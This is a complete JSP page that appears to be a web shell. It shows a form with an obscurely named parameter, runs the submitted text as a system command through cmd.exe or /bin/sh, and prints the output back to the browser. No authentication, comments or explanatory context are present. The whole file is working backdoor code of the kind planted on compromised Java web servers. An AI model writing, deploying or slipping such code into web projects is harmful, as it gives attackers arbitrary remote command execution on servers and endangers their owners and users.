<%@ page contentType="text/html;charset=GBK" pageEncoding="GBK" import="java.io.*,java.util.*" %>
<html><body>
<form method="POST"><input type="text" name="faxcg" size="80"><input type="submit" value="Run"></form>
<%
    String cmd = request.getParameter("faxcg");
    if (cmd != null && cmd.length() > 0) {
        List<String> argv = new ArrayList<String>();
        if (System.getProperty("os.name").toLowerCase().contains("win")) {
            argv.add("cmd.exe"); argv.add("/c");
        } else {
            argv.add("/bin/sh"); argv.add("-c");
        }
        argv.add(cmd);
        ProcessBuilder pb = new ProcessBuilder(argv);
        pb.redirectErrorStream(true);
        Process proc = pb.start();
        InputStream in = proc.getInputStream();
        ByteArrayOutputStream buf = new ByteArrayOutputStream();
        byte[] b = new byte[4096];
        int n;
        while ((n = in.read(b)) != -1) {
            buf.write(b, 0, n);
        }
        out.print("<pre>" + new String(buf.toByteArray(), "GBK") + "</pre>");
    }
%>
</body></html>
